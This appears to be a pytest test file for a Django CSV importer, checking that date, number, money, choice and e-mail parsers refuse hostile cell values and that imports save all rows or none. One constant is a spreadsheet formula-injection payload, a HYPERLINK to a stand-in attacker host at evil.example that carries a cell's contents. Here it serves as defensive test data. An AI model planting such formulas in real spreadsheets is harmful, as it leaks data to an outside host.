"""The import kernel: one set of cell parsers (qms.parsers) that refuse hostile
values with a readable message, and an Importer base that checks every row,
saves all rows in one transaction or none, and saves nothing on a dry run."""

import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError
from django.utils import timezone, translation

from qms import bounds, imports, parsers
from qms.imports import Importer, Row
from qms.models import Language, Segment
from qms.parsers import (
    Lookup,
    parse_choice,
    parse_date,
    parse_decimal,
    parse_email,
    parse_integer,
    parse_moment,
    parse_money,
    parse_text,
)
from tests.factories import SegmentFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HUGE = "9" * 10_000
LONG = "x" * 10_000


def message(parse, *args, **options) -> str:
    """The one message ``parse`` refuses its input with."""
    with pytest.raises(ValidationError) as refused:
        parse(*args, **options)
    assert len(refused.value.messages) == 1
    return refused.value.messages[0]


# --- Text ---------------------------------------------------------------------------


def test_formula_stays_text():
    assert parse_text(FORMULA, max_length=100) == FORMULA


def test_empty_text_is_blank_unless_required():
    assert parse_text("") == ""
    assert message(parse_text, "", required=True) == str(parsers.ERR_REQUIRED)


def test_text_longer_than_the_field_is_refused_with_its_length():
    refused = message(parse_text, LONG, max_length=200)

    assert "200" in refused and "10000" in refused
    assert parse_text(LONG) == LONG


# --- Dates and moments --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-02-29", datetime.date(2024, 2, 29)),
        ("29.02.2024", datetime.date(2024, 2, 29)),
    ],
)
def test_date_in_either_format(text, expected):
    assert parse_date(text) == expected


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("0001-01-01", bounds.ERR_BEFORE_1900),
        ("1899-12-31", bounds.ERR_BEFORE_1900),
        ("9999-12-31", bounds.ERR_AFTER_2099),
        ("2024-02-30", parsers.ERR_DATE),
        ("yesterday", parsers.ERR_DATE),
        (FORMULA, parsers.ERR_DATE),
        (LONG, parsers.ERR_DATE),
        ("NaN", parsers.ERR_DATE),
    ],
)
def test_date_out_of_range_or_garbage_is_refused(text, refusal):
    assert message(parse_date, text) == str(refusal)


def test_empty_date_is_none_unless_required():
    assert parse_date("") is None
    assert message(parse_date, "", required=True) == str(parsers.ERR_REQUIRED)


def test_past_date_refuses_tomorrow_and_formats_can_be_narrowed():
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)

    assert message(parse_date, tomorrow.isoformat(), past=True) == str(
        parsers.ERR_FUTURE
    )
    assert parse_date("2024-01-31", formats=parsers.ISO_DATE)
    assert message(parse_date, "31.01.2024", formats=parsers.ISO_DATE) == str(
        parsers.ERR_DATE
    )


@pytest.mark.parametrize(
    ("text", "local"),
    [
        ("2024-05-06 14:30", (2024, 5, 6, 14, 30)),
        ("06.05.2024 14:30", (2024, 5, 6, 14, 30)),
        ("2024-05-06", (2024, 5, 6, 0, 0)),
        ("2024-05-06T11:30:00+00:00", (2024, 5, 6, 14, 30)),
    ],
)
def test_moment_is_aware_in_the_local_time_zone(text, local):
    moment = parse_moment(text)

    assert timezone.is_aware(moment)
    shown = timezone.localtime(moment)
    assert (shown.year, shown.month, shown.day, shown.hour, shown.minute) == local


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        # Time-zone arithmetic on these overflows: the bounds come first.
        ("0001-01-01", bounds.ERR_BEFORE_1900),
        ("0001-01-01T00:00+14:00", bounds.ERR_BEFORE_1900),
        ("9999-12-31 23:59", bounds.ERR_AFTER_2099),
        ("9999-12-31T23:59-14:00", bounds.ERR_AFTER_2099),
        ("31.12.9999", bounds.ERR_AFTER_2099),
        ("not a date", parsers.ERR_MOMENT),
        (FORMULA, parsers.ERR_MOMENT),
        (LONG, parsers.ERR_MOMENT),
        ("2024-01-01T10:00+99:00", parsers.ERR_MOMENT),
    ],
)
def test_moment_out_of_range_or_garbage_is_refused(text, refusal):
    assert message(parse_moment, text) == str(refusal)


def test_past_moment_refuses_the_future_even_far_ahead():
    soon = (timezone.localtime() + datetime.timedelta(hours=2)).strftime(
        "%Y-%m-%d %H:%M"
    )

    assert message(parse_moment, soon, past=True) == str(parsers.ERR_FUTURE)
    assert message(parse_moment, "9999-12-31", past=True) == str(parsers.ERR_FUTURE)


# --- Numbers ------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "value"), [("42", 42), ("+7", 7), ("-3", -3)])
def test_whole_number(text, value):
    assert parse_integer(text) == value


@pytest.mark.parametrize("text", ["1e309", "NaN", "inf", "4.5", "4,5", HUGE, FORMULA])
def test_not_a_whole_number_is_refused(text):
    assert message(parse_integer, text) == str(parsers.ERR_NUMBER)


def test_whole_number_bounds_name_themselves_or_use_the_given_message():
    assert "2147483647" in message(parse_integer, "99999999999")
    assert "0" in message(parse_integer, "-1", minimum=0)
    rating = {"minimum": 1, "maximum": 5, "message": "1 to 5"}
    assert message(parse_integer, "7", **rating) == "1 to 5"
    assert message(parse_integer, "x", **rating) == "1 to 5"
    assert parse_integer("", default=3, **rating) == 3


@pytest.mark.parametrize(
    ("text", "value"),
    [("12,5", Decimal("12.5")), ("-0.25", Decimal("-0.25")), ("1e3", Decimal(1000))],
)
def test_decimal_with_point_or_comma(text, value):
    assert parse_decimal(text) == value


@pytest.mark.parametrize(
    "text", ["NaN", "sNaN", "Infinity", "-inf", HUGE, FORMULA, "1,2,3", "12 €"]
)
def test_decimal_that_is_no_finite_number_is_refused(text):
    assert message(parse_decimal, text) == str(parsers.ERR_NUMBER)


def test_decimal_out_of_bounds_is_refused():
    assert "1000000000000000" in message(parse_decimal, "1e309")
    assert "0" in message(parse_decimal, "-1", minimum=0)
    assert "2" in message(parse_decimal, "1.234", decimal_places=2)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1 234,50", Decimal("1234.50")),
        ("€ 12", Decimal("12.00")),
        ("0.5", Decimal("0.50")),
        ("9999999999.99", bounds.MONEY_MAX),
    ],
)
def test_money(text, value):
    amount = parse_money(text)

    assert amount == value
    assert amount.as_tuple().exponent == -2


@pytest.mark.parametrize("text", ["1e309", "10000000000", "-1", "12.345"])
def test_money_out_of_bounds_or_finer_than_cents_is_refused(text):
    message(parse_money, text)


@pytest.mark.parametrize("text", ["NaN", "Infinity", FORMULA, HUGE])
def test_money_that_is_no_number_is_refused(text):
    message(parse_money, text)


def test_empty_number_is_the_default_unless_required():
    assert parse_integer("") is None
    assert parse_decimal("", default=Decimal(1)) == 1
    assert parse_money("") is None
    assert message(parse_money, "", required=True) == str(parsers.ERR_REQUIRED)


# --- Choices, e-mail and look-ups ---------------------------------------------------


@pytest.mark.parametrize("text", ["en", "EN", "English", "english", "ENGLISH"])
def test_choice_by_value_or_label_in_any_case(text):
    assert parse_choice(text, Language) == "en"


def test_choice_by_label_in_the_current_language():
    choices = [("kept", "Kept"), ("broken", "Broken")]

    assert parse_choice("BROKEN", choices) == "broken"
    assert parse_choice("ru", ("et", "en", "ru")) == "ru"
    with translation.override("et"):
        assert parse_choice("eesti", Language) == "et"


def test_unknown_choice_names_the_value_and_the_choices():
    refused = message(parse_choice, "xx", Language)

    assert "“xx”" in refused and "et, en, ru" in refused


@pytest.mark.parametrize("text", [FORMULA, LONG, "NaN"])
def test_hostile_choice_is_refused_with_a_short_message(text):
    assert len(message(parse_choice, text, Language)) < 120


def test_empty_choice_gives_the_default_or_is_required():
    assert parse_choice("", Language, default="et") == "et"
    assert parse_choice("", Language, default="") == ""
    assert message(parse_choice, "", Language) == str(parsers.ERR_REQUIRED)


def test_email():
    assert parse_email("a@example.org") == "a@example.org"
    for text in ["not-an-address", FORMULA, "a@" + "x" * 300 + ".org"]:
        assert message(parse_email, text) == str(parsers.ERR_EMAIL)


@pytest.mark.django_db
def test_lookup_reads_its_table_once_for_every_row(django_assert_num_queries):
    shops = SegmentFactory(code="shops", name="Shops")
    SegmentFactory(code="homes", name="Homes")
    segments = Lookup(Segment.objects.all(), "code", "name", casefold=True)

    # The segment table, once.
    with django_assert_num_queries(1):
        found = [segments.parse(text) for text in ["shops", "SHOPS", "Shops"] * 50]

    assert set(found) == {shops}
    assert segments.parse("") is None
    assert message(segments.parse, "", required=True) == str(parsers.ERR_REQUIRED)
    assert message(segments.parse, FORMULA) == str(
        parsers.ERR_UNKNOWN_CODE % {"value": parsers.shown(FORMULA)}
    )
    assert len(message(segments.parse, LONG)) < 100


def test_row_records_every_bad_cell_with_its_column():
    row = Row(
        7,
        {"day": "9999-01-01", "count": "1e309", "name": FORMULA, "kind": "xx"},
        max_lengths={"name": 10},
    )

    assert row.date("day") is None
    assert row.integer("count") is None
    assert row.text("name") == ""
    assert row.choice("kind", Language) is None
    assert row.text("missing") == ""
    assert [column for column, _m in row.errors] == ["day", "count", "name", "kind"]


# --- The importer -------------------------------------------------------------------


class SegmentImporter(Importer):
    """Segments, with two columns only to be checked (a date and a number)."""

    columns = ["code", "name", "since", "members"]
    required_columns = ["code", "name"]
    model = Segment

    def prepare(self) -> None:
        self.prepared = getattr(self, "prepared", 0) + 1

    def build(self, row: Row) -> Segment | None:
        row.date("since", past=True)
        row.integer("members", minimum=0)
        return Segment(code=row.text("code", required=True), name=row.text("name"))

    def clean(self, segment: Segment, row: Row) -> None:
        segment.full_clean(validate_unique=False)

    def save(self, segments: list[Segment]) -> None:
        for segment in segments:
            segment.save()


GOOD = "code;name;since;members\nshops;Shops;2020-01-01;12\nhomes;Homes;;\n"


def csv(text: str) -> io.BytesIO:
    return io.BytesIO(text.encode())


@pytest.mark.django_db
def test_dry_run_previews_every_row_and_saves_nothing():
    result = SegmentImporter().run(csv(GOOD), dry_run=True)

    assert result.ok and result.created == 0
    assert [(number, segment.code) for number, segment in result.rows] == [
        (2, "shops"),
        (3, "homes"),
    ]
    assert result.header == ["code", "name", "since", "members"]
    assert not Segment.objects.exists()


@pytest.mark.django_db
def test_good_file_is_saved_whole_and_a_formula_stays_text():
    text = GOOD + f'cheats;"{FORMULA.replace(chr(34), chr(34) * 2)}";;\n'

    result = SegmentImporter().run(csv("\ufeff" + text), dry_run=False)

    assert result.errors == [] and result.created == result.saved == 3
    assert Segment.objects.get(code="cheats").name == FORMULA


@pytest.mark.django_db
def test_one_bad_row_saves_nothing_and_names_row_and_column():
    text = GOOD + f"bad;Bad;0001-01-01;1e309\nlong;{LONG};;\n"

    result = SegmentImporter().run(csv(text), dry_run=False)

    assert [(number, column) for number, column, _m in result.errors] == [
        (4, "since"),
        (4, "members"),
        (5, "name"),
    ]
    assert result.errors[0][2] == str(bounds.ERR_BEFORE_1900)
    assert result.created == 0
    assert not Segment.objects.exists()


@pytest.mark.django_db
def test_a_record_the_model_refuses_names_its_column():
    result = SegmentImporter().run(csv("code,name\nnot a slug!,X\n"), dry_run=True)

    assert [(number, column) for number, column, _m in result.errors] == [(2, "code")]


@pytest.mark.django_db
def test_failure_while_saving_leaves_nothing_behind():
    class Failing(SegmentImporter):
        def save(self, segments):
            super().save(segments)
            raise IntegrityError("the database refused the last row")

    with pytest.raises(IntegrityError):
        Failing().run(csv(GOOD), dry_run=False)

    assert not Segment.objects.exists()


@pytest.mark.django_db
def test_import_that_checks_by_saving_rolls_back_a_dry_run_and_a_bad_file():
    class SavedWhileChecked(SegmentImporter):
        checks_by_saving = True

        def build(self, row):
            segment = super().build(row)
            if row.ok:
                segment.save()
            return segment

        def save(self, segments):
            pass

    dry = SavedWhileChecked().run(csv(GOOD), dry_run=True)
    bad = SavedWhileChecked().run(csv(GOOD + "x;X;;-1\n"), dry_run=False)

    assert dry.ok and dry.created == 0
    assert [(n, c) for n, c, _m in bad.errors] == [(4, "members")]
    assert not Segment.objects.exists()
    assert SavedWhileChecked().run(csv(GOOD), dry_run=False).created == 2
    assert Segment.objects.count() == 2


@pytest.mark.parametrize(
    ("text", "errors"),
    [
        ("", [(1, "", str(imports.ERR_EMPTY_FILE))]),
        ("code,name\n", [(1, "", str(imports.ERR_NO_ROWS))]),
        (
            "code,colour\nx,red\n",
            [
                (1, "name", str(imports.ERR_MISSING_COLUMN)),
                (1, "colour", str(imports.ERR_UNKNOWN_COLUMN)),
            ],
        ),
    ],
)
def test_header_problems_are_reported_on_row_1(db, text, errors):
    assert SegmentImporter().run(csv(text), dry_run=False).errors == errors


def test_file_that_is_not_utf8_is_refused():
    source = io.BytesIO("code,name\nå,Å\n".encode("utf-16"))

    result = SegmentImporter().run(source, dry_run=True)

    assert result.errors == [(1, "", str(imports.ERR_ENCODING))]


@pytest.mark.django_db
def test_extra_values_are_refused_where_the_importer_says_so():
    class Strict(SegmentImporter):
        refuse_extra_values = True

    text = "code,name\nshops,Shops,surplus\n"

    assert SegmentImporter().run(text, dry_run=True).ok
    assert Strict().run(text, dry_run=True).errors == [
        (2, "", str(imports.ERR_TOO_MANY_VALUES))
    ]
